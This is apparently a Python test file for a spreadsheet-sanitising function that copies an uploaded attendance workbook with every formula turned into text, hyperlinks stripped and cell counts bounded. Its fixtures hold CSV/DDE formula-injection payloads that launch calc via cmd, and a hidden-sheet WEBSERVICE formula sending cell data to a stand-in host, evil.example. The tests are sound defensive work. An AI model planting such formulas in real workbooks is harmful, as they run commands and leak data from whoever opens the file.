"""The reviewers' copy of an uploaded workbook: values where they were, no formula left, nothing live carried over."""
import io
from datetime import datetime

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.formula import ArrayFormula

from engine.spreadsheet import COPY_MAX_CELLS, CopyRefused, neutralised_copy


def saved(wb) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def uploaded() -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = "考勤"
    ws.append(["姓名", "考勤月份", "实际出勤天数", "备注"])
    ws.append(["王小丽", datetime(2026, 9, 1), 20, '=HYPERLINK("http://evil.example","点我")'])
    ws["A9"] = "=cmd|' /C calc'!A0"                                  # rows 3 to 8 left empty
    ws["B9"] = ArrayFormula("B9:B9", "=SUM(C2:C3)")
    ws["C9"] = "-1+cmd|' /C calc'!A0"
    ws["A2"].hyperlink = "http://evil.example/a"
    hidden = wb.create_sheet("隐藏")
    hidden.sheet_state = "hidden"
    hidden["B2"] = "=WEBSERVICE(\"http://evil.example/\"&考勤!A2)"
    return saved(wb)


def test_values_stay_where_they_were_and_every_formula_is_text():
    copy = load_workbook(io.BytesIO(neutralised_copy(uploaded())))
    assert copy.sheetnames == ["考勤", "隐藏"] and copy["隐藏"].sheet_state == "hidden"
    ws = copy["考勤"]
    assert [c.value for c in ws[1]] == ["姓名", "考勤月份", "实际出勤天数", "备注"]
    assert [c.value for c in ws[2]] == ["王小丽", datetime(2026, 9, 1), 20, "'=HYPERLINK(\"http://evil.example\",\"点我\")"]
    assert [c.value for c in ws[9]][:3] == ["'=cmd|' /C calc'!A0", "'=SUM(C2:C3)", "'-1+cmd|' /C calc'!A0"]
    assert all(c.value is None for r in ws.iter_rows(min_row=3, max_row=8) for c in r)
    assert copy["隐藏"]["B2"].value == "'=WEBSERVICE(\"http://evil.example/\"&考勤!A2)"
    assert all(c.data_type != "f" for s in copy.worksheets for r in s.iter_rows() for c in r)
    assert ws["A2"].hyperlink is None


def test_a_file_that_cannot_be_read_is_refused_plainly():
    for data in (b"PK\x03\x04 not really a workbook", b""):
        with pytest.raises(CopyRefused) as e:
            neutralised_copy(data)
        assert e.value.message == "单位上传的文件无法读取，无法生成公式已转为文本的副本"


def test_the_copy_is_bounded_whatever_the_file_declares(monkeypatch):
    wb = Workbook()
    wb.active["A1"] = "x"
    wb.active["XFD3"] = "far right"          # a row 16,384 cells wide
    data = saved(wb)
    assert load_workbook(io.BytesIO(neutralised_copy(data))).active["XFD3"].value == "far right"
    monkeypatch.setattr("engine.spreadsheet.COPY_MAX_CELLS", 16_000)
    assert COPY_MAX_CELLS > 16_000
    with pytest.raises(CopyRefused) as e:
        neutralised_copy(data)
    assert e.value.kind == "too_large" and e.value.message == "单位上传的文件单元格过多，无法生成公式已转为文本的副本"
